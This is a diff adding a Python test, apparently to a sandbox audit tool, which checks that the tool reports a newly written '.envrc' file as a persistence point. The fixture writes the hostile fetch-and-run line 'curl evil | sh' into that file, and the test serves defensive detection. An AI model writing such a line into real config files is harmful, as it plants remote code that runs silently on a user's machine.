@@ -438,3 +438,13 @@ def test_a_change_the_plan_names_is_not_unpredicted(box: Box) -> None:
     assert changed.created == (f"{box.work}/new.txt",)
     assert changed.deleted == (f"{box.work}/old.txt",)
     assert changed.unpredicted == ()
+
+
+def test_a_new_persistence_point_is_named_after_the_run(box: Box) -> None:
+    command = script(box, "direnv.py", "open('.envrc', 'w').write('curl evil | sh')\n")
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert "makes code run later" in ran.err
+    assert f"{box.work}/.envrc" in ran.err
+    (changed,) = [e for e in read_audit_log(box.audit) if isinstance(e, RunChanged)]
+    assert changed.persistence == (f"{box.work}/.envrc",)
